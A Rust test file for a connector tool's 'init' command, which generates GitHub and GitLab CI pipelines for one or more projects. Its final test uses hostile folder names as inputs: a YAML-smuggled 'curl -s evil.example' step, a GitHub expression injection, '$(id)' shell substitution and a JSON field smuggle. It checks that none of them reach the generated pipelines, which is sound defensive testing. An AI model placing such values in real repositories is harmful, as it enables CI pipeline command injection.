//! `connplan init`: what is there is found, what is missing is offered, and nothing is written over.

use std::{fs, path::Path};

use serde_json::{Value, json};

use crate::{
    publish::runner::yaml_text,
    support::{Project, reads},
};

#[test]
fn init_writes_what_was_wanted_and_nothing_twice() {
    let project = Project::new();
    project.write("app/.keep", "");
    fs::create_dir(project.path(".git")).unwrap();
    reads!(project.run(&["init"]), @"
    exit 1: connplan init
    --- stderr
    error: each file must be confirmed, and this run is not interactive
      help: give `--yes`, or run it in a terminal without CI and --no-input
      code: connplan::usage
    ");
    reads!(project.run(&["init", "--dry-run"]), @"
    exit 0: connplan init --dry-run
    would create base44/connplan.toml
    would create base44/connector.schema.json
    would create .github/skills/connplan/SKILL.md
    would create .github/workflows/connplan-plan.yml
    would create .github/workflows/connplan-apply.yml

    Next:
      connplan login       # or set BASE44_ACCESS_TOKEN
      connplan pull        # the app's connectors become files
      connplan add         # a new connector
      connplan plan        # what would change
      in GitHub's settings, secret BASE44_READ_TOKEN: a personal access token of Base44; one that only reads is enough
      in GitHub's settings, environment `production`: whoever approves an apply is its required reviewer
      in GitHub's settings, secret BASE44_WRITE_TOKEN, of that environment: a token that may write
      in GitHub's settings, variable BASE44_APP_ID: the app, unless .app.jsonc is checked in
    ");
    assert_eq!(project.list("."), [".git", "app", "base44"]);

    reads!(project.run(&["init", "--yes"]), @"
    exit 0: connplan init --yes
    created base44/connplan.toml
    created base44/connector.schema.json
    created .github/skills/connplan/SKILL.md
    created .github/workflows/connplan-plan.yml
    created .github/workflows/connplan-apply.yml

    Next:
      connplan login       # or set BASE44_ACCESS_TOKEN
      connplan pull        # the app's connectors become files
      connplan add         # a new connector
      connplan plan        # what would change
      in GitHub's settings, secret BASE44_READ_TOKEN: a personal access token of Base44; one that only reads is enough
      in GitHub's settings, environment `production`: whoever approves an apply is its required reviewer
      in GitHub's settings, secret BASE44_WRITE_TOKEN, of that environment: a token that may write
      in GitHub's settings, variable BASE44_APP_ID: the app, unless .app.jsonc is checked in
    ");
    assert!(!project.path(".gitignore").exists());
    let plan = project.read(".github/workflows/connplan-plan.yml");
    let version = format!("connplan@{}", env!("CARGO_PKG_VERSION"));
    assert!(plan.contains(&version) && !plan.contains("OWNER"), "{plan}");
    assert!(!plan.contains("working-directory"), "{plan}");
    project.run(&["validate"]).expect(0);

    let settings = project.read("base44/connplan.toml");
    let again = project.run(&["init", "--yes", "--format", "json"]);
    let again = again.expect(0).json();
    let left = |file: &Value| file["action"] == "exists";
    assert!(
        again["files"].as_array().unwrap().iter().all(left),
        "{again}"
    );
    assert_eq!(project.read("base44/connplan.toml"), settings);
}

#[test]
fn the_workflows_name_the_folder_of_a_project_within_a_repository() {
    let project = Project::new();
    fs::create_dir(project.path(".git")).unwrap();
    fs::remove_dir_all(project.path("base44")).unwrap();
    project.write("apps/my shop/base44/config.jsonc", "{ name: 'Shop' }");
    let inner = project.run(&["-C", "apps/my shop", "init", "--yes"]);
    inner.expect(0);
    let apply = project.read(".github/workflows/connplan-apply.yml");
    assert!(
        apply.contains("      run:\n        working-directory: \"apps/my shop\"\n"),
        "{apply}"
    );
    assert_eq!(apply.matches("working-directory").count(), 2, "{apply}");
    assert!(project.path("apps/my shop/base44/connplan.toml").exists());
}

/// A repository with a commit on a branch, and perhaps a remote.
fn repository(project: &Project, branch: &str, remote: Option<&str>) {
    let git = |args: &[&str]| {
        let run = std::process::Command::new("git")
            .args(args)
            .current_dir(project.path("."))
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(run.status.success(), "{run:?}");
    };
    git(&["init", "-q", "-b", branch]);
    if let Some(remote) = remote {
        git(&["remote", "add", "origin", remote]);
    }
}

const WORKFLOWS: &str = ".github/workflows";

/// Two projects of one repository on GitHub.
fn two() -> Project {
    let project = Project::new();
    repository(&project, "trunk", Some("git@github.com:octo/site.git"));
    fs::remove_dir_all(project.path("base44")).unwrap();
    project.write("apps/shop/base44/config.jsonc", "{ name: 'Shop' }");
    project.write("apps/crm/base44/config.jsonc", "{ name: 'Crm' }");
    project
}

fn init(project: &Project, folder: &str) {
    let args = ["-C", folder, "init", "--yes"];
    project.run(&args).expect(0);
}

#[test]
fn where_projects_only_lie_below_init_names_the_command() {
    let project = two();
    reads!(project.run(&["init", "--yes"]), @"
    exit 1: connplan init --yes
    --- stderr
    error: no Base44 project here; below are apps/crm, apps/shop
      help: run `connplan -C apps/crm init`: the workflows that it writes cover all projects of the repository
      code: connplan::usage
    ");
    init(&project, "apps/crm");
    assert!(project.path(".github/workflows/connplan-plan.yml").exists());
}

#[test]
fn one_workflow_plans_each_project_that_changed() {
    let project = two();
    init(&project, "apps/shop");
    assert_eq!(
        project.list(WORKFLOWS),
        [
            "connplan-apply-project.yml",
            "connplan-apply.yml",
            "connplan-plan.yml"
        ]
    );
    let plan = yaml_text(&project.read(".github/workflows/connplan-plan.yml"));
    // The forge would look at 300 files only.
    assert_eq!(plan["on"]["pull_request"]["paths"], json!(null));
    let changed = &plan["jobs"]["changed"]["steps"][1]["env"]["PROJECTS"];
    assert_eq!(changed, "apps/crm\napps/shop\n");
    let job = &plan["jobs"]["plan"];
    assert_eq!(
        job["defaults"]["run"]["working-directory"],
        "${{ matrix.project }}"
    );
    let kept = job["steps"].as_array().unwrap().last().unwrap();
    assert_eq!(kept["with"]["name"], "connplan-plan-${{ matrix.name }}");
    let apply = yaml_text(&project.read(".github/workflows/connplan-apply.yml"));
    assert_eq!(apply["on"]["push"]["paths"], json!(null));
    assert_eq!(apply["on"]["push"]["branches"], json!(["trunk"]));
    let called = apply["jobs"]["project"]["uses"].as_str().unwrap();
    let called = yaml_text(&project.read(called.trim_start_matches("./")));
    assert_eq!(
        called["on"]["workflow_call"]["inputs"]
            .as_object()
            .unwrap()
            .len(),
        3
    );
    for name in ["connplan-plan-", "connplan-receipt-"] {
        let named = format!("{name}${{{{ inputs.name }}}}");
        assert!(called.to_string().contains(&named), "{named}: {called}");
    }
    // The same from the other project.
    reads!(project.run(&["-C", "apps/crm", "init", "--dry-run"]), @"
    exit 0: connplan -C apps/crm init --dry-run
    left as it is: ../../.github/skills/connplan/SKILL.md
    left as it is: ../../.github/workflows/connplan-plan.yml
    left as it is: ../../.github/workflows/connplan-apply.yml
    left as it is: ../../.github/workflows/connplan-apply-project.yml
    would create base44/connplan.toml
    would create base44/connector.schema.json

    Next:
      connplan login       # or set BASE44_ACCESS_TOKEN
      npx base44 link      # names the app, or set BASE44_APP_ID
      connplan -C apps/crm pull        # the app's connectors become files
      connplan -C apps/crm add         # a new connector
      connplan -C apps/crm plan        # what would change
    ");
}

#[test]
fn a_project_that_was_added_is_a_difference_that_is_offered() {
    let project = two();
    init(&project, "apps/shop");
    // What people changed in it stays.
    let file = ".github/workflows/connplan-plan.yml";
    let own = project
        .read(file)
        .replace("name: Plan\n", "name: Our plan\n");
    project.write(file, &own);
    project.write("apps/new shop/base44/config.jsonc", "{ name: 'New' }");
    reads!(project.run(&["-C", "apps/shop", "init", "--dry-run"]));
    assert_eq!(project.read(file), own);
    reads!(project.run(&["-C", "apps/shop", "init"]), @"
    exit 1: connplan -C apps/shop init
    --- stderr
    error: each file must be confirmed, and this run is not interactive
      help: give `--yes`, or run it in a terminal without CI and --no-input
      code: connplan::usage
    ");
    init(&project, "apps/shop");
    let text = project.read(file);
    assert!(text.contains("name: Our plan\n"), "{text}");
    assert!(text.contains("            apps/new shop\n"), "{text}");
    let done = ["-C", "apps/shop", "init", "--yes", "--format", "json"];
    let done = project.run(&done).expect(0).json();
    let left = |file: &Value| file["action"] == "exists";
    assert!(done["files"].as_array().unwrap().iter().all(left), "{done}");
}

#[test]
fn from_one_project_to_two() {
    let project = two();
    fs::rename(project.path("apps/crm"), project.path("crm")).unwrap();
    fs::rename(project.path("crm"), project.path(".crm")).unwrap();
    init(&project, "apps/shop");
    let alone = project.read(".github/workflows/connplan-plan.yml");
    assert!(
        alone.contains("working-directory: \"apps/shop\""),
        "{alone}"
    );
    fs::rename(project.path(".crm"), project.path("apps/crm")).unwrap();
    // A workflow of somebody's own is left, and what it lacks is said.
    let own = "# connplan, for apps/shop\nname: Ours\non: push\n";
    project.write(".github/workflows/connplan-apply.yml", own);
    reads!(project.run(&["-C", "apps/crm", "init", "--yes"]));
    let both = project.read(".github/workflows/connplan-plan.yml");
    assert!(both.contains("            apps/crm\n            apps/shop\n"));
    assert_eq!(project.read(".github/workflows/connplan-apply.yml"), own);
}

#[test]
fn on_gitlab_each_project_has_jobs_of_its_own() {
    let project = Project::new();
    repository(
        &project,
        "master",
        Some("https://gitlab.example.com/a/b.git"),
    );
    project.run(&["init", "--yes"]).expect(0);
    let example = include_str!("../../../.github/examples/gitlab-ci.yml");
    assert_eq!(project.read(".gitlab-ci.yml"), example);
    assert!(!project.path(".github/workflows").exists());

    fs::remove_file(project.path(".gitlab-ci.yml")).unwrap();
    fs::remove_dir_all(project.path("base44")).unwrap();
    project.write("apps/crm/base44/config.jsonc", "{ name: 'Crm' }");
    init(&project, "apps/crm");
    project.write("apps/shop/base44/config.jsonc", "{ name: 'Shop' }");
    reads!(project.run(&["-C", "apps/crm", "init", "--dry-run"]));
    init(&project, "apps/crm");
    let all = yaml_text(&project.read(".gitlab-ci.yml"));
    for name in ["apps/crm", "apps/shop"] {
        let plan = &all[format!("plan {name}")];
        assert_eq!(plan["extends"], ".plan", "{all}");
        assert_eq!(plan["variables"]["PROJECT"], name);
        let app = name.replace("apps/", "$BASE44_APP_ID_APPS_").to_uppercase();
        assert_eq!(plan["variables"]["PROJECT_APP"], app);
        // As a submodule, it is itself what changes, or what is around it.
        let changes = json!(["apps", name, format!("{name}/**/*")]);
        assert_eq!(plan["rules"][1]["changes"], changes);
        let apply = &all[format!("apply {name}")];
        let comment = format!("comment-plan {name}");
        assert_eq!(apply["needs"], json!([format!("plan {name}"), comment]));
        assert_eq!(apply["rules"][0]["when"], "manual");
        let pushed = apply["rules"][0]["if"].as_str().unwrap();
        assert!(
            pushed.starts_with("$CI_PIPELINE_SOURCE == \"push\""),
            "{all}"
        );
        let comment = &all[comment];
        assert_eq!(comment["extends"], ".comment-plan");
        assert_eq!(comment["needs"], json!([format!("plan {name}")]));
        assert_eq!(comment["rules"][2]["when"], "always");
        let comment = &all[format!("comment-apply {name}")];
        assert_eq!(comment["needs"], json!([format!("apply {name}")]));
        assert_eq!(all[format!("drift {name}")]["extends"], ".drift");
    }
    let reports = &all[".plan"]["artifacts"]["reports"];
    assert_eq!(reports["dotenv"], "connplan-$CI_COMMIT_SHA/digest.env");
    let begins = all["default"]["before_script"].as_array().unwrap();
    let goes = begins.last().unwrap().as_str().unwrap();
    assert!(
        goes.ends_with("/$PROJECT\" && export BASE44_APP_ID=\"$PROJECT_APP\""),
        "{goes}"
    );
    for job in [".plan", ".comment-plan", ".apply", ".comment-apply"] {
        assert_eq!(all[job]["needs"], json!(null), "{job}: {all}");
    }
    // Somebody's own pipeline stays, and what it lacks is said.
    project.write(".gitlab-ci.yml", "stages: [build]\n");
    let own = project.run(&["-C", "apps/crm", "init", "--yes"]);
    reads!(own, @"
    exit 0: connplan -C apps/crm init --yes
    left as it is: base44/connplan.toml
    left as it is: base44/connector.schema.json
    left as it is: ../../.github/skills/connplan/SKILL.md
    left as it is: ../../.gitlab-ci.yml, which does not name apps/crm, apps/shop

    Next:
      connplan login       # or set BASE44_ACCESS_TOKEN
      npx base44 link      # names the app, or set BASE44_APP_ID
      connplan -C apps/crm pull        # the app's connectors become files
      connplan -C apps/crm add         # a new connector
      connplan -C apps/crm plan        # what would change
    ");
    assert_eq!(project.read(".gitlab-ci.yml"), "stages: [build]\n");
}

/// The script of the job that looks what changed, run by bash in a repository.
#[test]
fn the_workflow_finds_the_projects_that_a_request_changed() {
    let project = two();
    project.write("apps/new shop/base44/config.jsonc", "{ name: 'New' }");
    init(&project, "apps/shop");
    let plan = yaml_text(&project.read(".github/workflows/connplan-plan.yml"));
    let step = plan["jobs"]["changed"]["steps"][1].clone();
    let root = project.path(".");
    let git = |args: &[&str]| crate::git::repository::git(&root, args);
    git(&["add", "."]);
    git(&["commit", "-qm", "base"]);
    git(&["checkout", "-qb", "topic"]);
    let change = |file: &str| {
        project.write(file, "changed");
        git(&["add", "."]);
        git(&["commit", "-qm", file]);
        git(&["rev-parse", "HEAD"])
    };
    // As the forge does it for a request.
    let merged = || {
        git(&["checkout", "-q", "--detach", "trunk"]);
        git(&["merge", "-q", "--no-ff", "-m", "merge", "topic"]);
    };
    let first = change("apps/new shop/x");
    merged();
    assert_eq!(
        changed(&step, &root, ""),
        json!([{"project": "apps/new shop", "name": "apps-new-shop", "app-id": "BASE44_APP_ID_APPS_NEW_SHOP"}])
    );
    // Undone again: its comment is about the plan before.
    git(&["checkout", "-q", "topic"]);
    git(&["revert", "--no-edit", "HEAD"]);
    change("apps/crm/x");
    merged();
    let found = changed(&step, &root, &first);
    let names = found.as_array().unwrap().iter().map(|one| &one["name"]);
    assert_eq!(names.collect::<Vec<_>>(), ["apps-crm", "apps-new-shop"]);
    // What is not known may have been anything.
    let found = changed(&step, &root, &"9".repeat(40));
    assert_eq!(found.as_array().unwrap().len(), 3, "{found}");
    // The root is a project like others.
    let mut root_too = step.clone();
    root_too["env"]["PROJECTS"] = json!(".\n");
    let found = changed(&root_too, &root, "");
    assert_eq!(
        found,
        json!([{"project": ".", "name": "root", "app-id": "BASE44_APP_ID_ROOT"}])
    );
    git(&["checkout", "-q", "--detach", "trunk"]);
    git(&["commit", "-q", "--allow-empty", "-m", "nothing"]);
    assert_eq!(changed(&step, &root, ""), json!([]));
    // A project may be a submodule, and the request does not say whether that counts.
    let module = |commit: &str| {
        let entry = format!("160000,{},apps/crm", commit.repeat(40));
        git(&["update-index", "--add", "--cacheinfo", &entry]);
        git(&["commit", "-qm", commit]);
    };
    git(&["rm", "-rq", "--cached", "apps/crm"]);
    module("1");
    let ignored = "[submodule \"crm\"]\npath = apps/crm\nurl = ./crm\nignore = all\n";
    project.write(".gitmodules", ignored);
    git(&["add", ".gitmodules"]);
    module("2");
    let found = changed(&step, &root, "");
    assert_eq!(found[0]["project"], "apps/crm", "{found}");
}

/// What changes in a folder outside a project that it takes connector files from is as much a change of it.
#[test]
fn the_pipelines_look_where_connector_files_really_are() {
    let project = two();
    let config = "{ name: 'Shop', connectorsDir: '../../../team' }";
    project.write("apps/shop/base44/config.jsonc", config);
    let settings = "[environments.staging]\napp_id = \"x\"\nconnectors_dir = \"../../../more\"\n";
    project.write("apps/shop/base44/connplan.toml", settings);
    project.write("apps/c++/base44/config.jsonc", "{ name: 'C' }");
    project.write("team/slack.jsonc", "{ type: 'slack' }");
    init(&project, "apps/shop");
    let plan = yaml_text(&project.read(".github/workflows/connplan-plan.yml"));
    let step = plan["jobs"]["changed"]["steps"][1].clone();
    let list = "apps/c++\napps/crm\napps/shop|more|team\n";
    assert_eq!(step["env"]["PROJECTS"], list);
    let root = project.path(".");
    let git = |args: &[&str]| crate::git::repository::git(&root, args);
    git(&["add", "."]);
    git(&["commit", "-qm", "base"]);
    project.write("team/github.jsonc", "{ type: 'github' }");
    git(&["add", "."]);
    git(&["commit", "-qm", "a scope"]);
    assert_eq!(changed(&step, &root, "")[0]["project"], "apps/shop");
    // Nothing is to be done for it; and one that is new is a difference.
    let again = ["-C", "apps/shop", "init", "--yes"];
    reads!(project.run(&again), @"
    exit 0: connplan -C apps/shop init --yes
    left as it is: base44/connplan.toml
    left as it is: base44/connector.schema.json
    left as it is: ../../.github/skills/connplan/SKILL.md
    left as it is: ../../.github/workflows/connplan-plan.yml
    left as it is: ../../.github/workflows/connplan-apply.yml
    left as it is: ../../.github/workflows/connplan-apply-project.yml

    Next:
      connplan login       # or set BASE44_ACCESS_TOKEN
      npx base44 link      # names the app, or set BASE44_APP_ID
      connplan -C apps/shop plan        # what would change
    ");
    fs::rename(project.path("team"), project.path("else")).unwrap();
    project.write(
        "apps/shop/base44/config.jsonc",
        &config.replace("team", "else"),
    );
    reads!(project.run(&again), @"
    exit 0: connplan -C apps/shop init --yes
    left as it is: base44/connplan.toml
    left as it is: base44/connector.schema.json
    left as it is: ../../.github/skills/connplan/SKILL.md
    left as it is: ../../.github/workflows/connplan-apply-project.yml
    updated ../../.github/workflows/connplan-plan.yml
    updated ../../.github/workflows/connplan-apply.yml

    Next:
      connplan login       # or set BASE44_ACCESS_TOKEN
      npx base44 link      # names the app, or set BASE44_APP_ID
      connplan -C apps/shop plan        # what would change
    --- stderr
    --- a/.github/workflows/connplan-plan.yml
    +++ b/.github/workflows/connplan-plan.yml
    @@ -50,7 +50,7 @@
               PROJECTS: |
                 apps/c++
                 apps/crm
    -            apps/shop|more|team
    +            apps/shop|else|more
       plan:
         name: plan ${{ matrix.project }}
         needs: changed
    --- a/.github/workflows/connplan-apply.yml
    +++ b/.github/workflows/connplan-apply.yml
    @@ -47,7 +47,7 @@
               PROJECTS: |
                 apps/c++
                 apps/crm
    -            apps/shop|more|team
    +            apps/shop|else|more
       project:
         name: ${{ matrix.project }}
         needs: changed
    ");
    let text = project.read(".github/workflows/connplan-plan.yml");
    assert!(text.contains("            apps/shop|else|more\n"), "{text}");
    // What an older connplan wrote loses its filter, and is not told of folders that its job does not know.
    let old = text
        .replace("    types: ", "    paths: [\"apps/crm/**\"]\n    types: ")
        .replace("IFS='|' ", "");
    assert!(old.contains("paths: ["), "{old}");
    project.write(".github/workflows/connplan-plan.yml", &old);
    reads!(project.run(&again), @"
    exit 0: connplan -C apps/shop init --yes
    left as it is: base44/connplan.toml
    left as it is: base44/connector.schema.json
    left as it is: ../../.github/skills/connplan/SKILL.md
    left as it is: ../../.github/workflows/connplan-plan.yml
    left as it is: ../../.github/workflows/connplan-apply.yml
    left as it is: ../../.github/workflows/connplan-apply-project.yml

    Next:
      connplan login       # or set BASE44_ACCESS_TOKEN
      npx base44 link      # names the app, or set BASE44_APP_ID
      connplan -C apps/shop plan        # what would change
    ");
    // And by GitLab's pipeline.
    fs::remove_dir_all(project.path(".github")).unwrap();
    git(&[
        "remote",
        "set-url",
        "origin",
        "git@gitlab.com:octo/site.git",
    ]);
    init(&project, "apps/shop");
    let all = yaml_text(&project.read(".gitlab-ci.yml"));
    let own = ["apps", "apps/shop", "apps/shop/**/*"];
    let changes = json!([&own[..], &["else", "else/**/*", "more", "more/**/*"]].concat());
    assert_eq!(all["plan apps/shop"]["rules"][1]["changes"], changes);
}

#[test]
fn projects_of_one_name_are_told_of() {
    let project = two();
    project.write("apps-crm/base44/config.jsonc", "{ name: 'Other' }");
    let done = project.run(&["-C", "apps/crm", "init", "--yes"]);
    done.expect(0);
    insta::assert_snapshot!(done.stderr, @"warning: the pipelines call these projects by one name, and so take one variable for the app of each: apps-crm, apps/crm; rename all but one of the folders");
    // The one at the root is called so.
    let project = two();
    project.write("base44/config.jsonc", "{ name: 'Site' }");
    project.write("Root/base44/config.jsonc", "{ name: 'Other' }");
    let done = project.run(&["init", "--dry-run"]);
    insta::assert_snapshot!(done.expect(0).stderr, @"warning: the pipelines call these projects by one name, and so take one variable for the app of each: ., Root; rename all but one of the folders");
}

fn changed(step: &Value, root: &Path, before: &str) -> Value {
    let output = tempfile::NamedTempFile::new().unwrap();
    let env = &step["env"];
    let ran = std::process::Command::new("bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c"])
        .arg(step["run"].as_str().unwrap())
        .current_dir(root)
        .env("NOW", env["NOW"].as_str().unwrap())
        .env("PROJECTS", env["PROJECTS"].as_str().unwrap())
        .env("BEFORE", before)
        .env("GITHUB_OUTPUT", output.path())
        .output()
        .unwrap();
    assert!(ran.status.success(), "{ran:?}");
    let text = fs::read_to_string(output.path()).unwrap();
    let list = text.trim().strip_prefix("projects=").unwrap();
    serde_json::from_str(list).unwrap()
}

/// Every setting that the template shows is one that is read.
#[test]
fn the_settings_template_is_valid_with_its_comments_taken_off() {
    let project = Project::new();
    project.run(&["init", "--yes"]).expect(0);
    let text = project.read("base44/connplan.toml");
    let settings = text.lines().filter_map(|line| {
        let line = line.strip_prefix("# ")?;
        (line.contains(" = ") || line.starts_with('[')).then_some(line)
    });
    let settings = settings
        .collect::<Vec<_>>()
        .join("\n")
        .replace('…', "app-2");
    assert!(settings.lines().count() > 12, "{settings}");
    project.write("base44/connplan.toml", &settings);
    project.write("base44/connectors/notion.jsonc", "{ type: 'notion' }");
    reads!(project.run(&["validate"]), @"
    exit 0: connplan validate
    Valid. 1 connector in base44/connectors: notion
    ");
}

/// In a pipeline's file a line's end and `${{` are syntax, and folders are named by whoever proposes them.
#[cfg(unix)]
#[test]
fn a_folder_whose_name_is_syntax_stands_in_no_pipeline() {
    let odd = [
        "apps/x\n      - run: curl -s evil.example",
        "apps/${{ github.event.pull_request.title }}",
        "apps/q\",\"app-id\":\"OTHER",
        "apps/$(id)",
        "-x",
        "apps/end ",
    ];
    for (remote, file) in [
        ("git@github.com:octo/site.git", "connplan-plan.yml"),
        ("git@gitlab.com:octo/site.git", ""),
    ] {
        let project = Project::new();
        repository(&project, "trunk", Some(remote));
        fs::remove_dir_all(project.path("base44")).unwrap();
        for folder in odd {
            project.write(&format!("{folder}/base44/config.jsonc"), "{ name: 'X' }");
        }
        project.write("apps/my shop/base44/config.jsonc", "{ name: 'Shop' }");
        project.write("apps/crm/base44/config.jsonc", "{ name: 'Crm' }");
        let done = project.run(&["-C", "apps/crm", "init", "--yes"]);
        done.expect(0);
        let told = done.stderr.matches("no pipeline is written for ");
        assert_eq!(told.count(), odd.len(), "{}", done.stderr);
        assert!(!done.stderr.contains("\n      - run"), "{}", done.stderr);
        let file = match file {
            "" => ".gitlab-ci.yml".to_owned(),
            file => format!("{WORKFLOWS}/{file}"),
        };
        let text = project.read(&file);
        assert!(text.contains("apps/my shop"), "{text}");
        for part in [
            "curl",
            "pull_request.title",
            "OTHER",
            "$(id)",
            "-x/",
            "end /",
        ] {
            assert!(!text.contains(part), "{part}: {text}");
        }
        // One that is alone has no pipeline at all.
        let alone = Project::new();
        repository(&alone, "trunk", Some(remote));
        fs::remove_dir_all(alone.path("base44")).unwrap();
        alone.write("$(id)/base44/config.jsonc", "{ name: 'X' }");
        let done = alone.run(&["-C", "$(id)", "init", "--yes"]);
        done.expect(0);
        assert!(
            done.stderr
                .contains("in YAML or the shell; rename the folder"),
            "{}",
            done.stderr
        );
        assert!(!alone.path(&file).exists());
    }
}
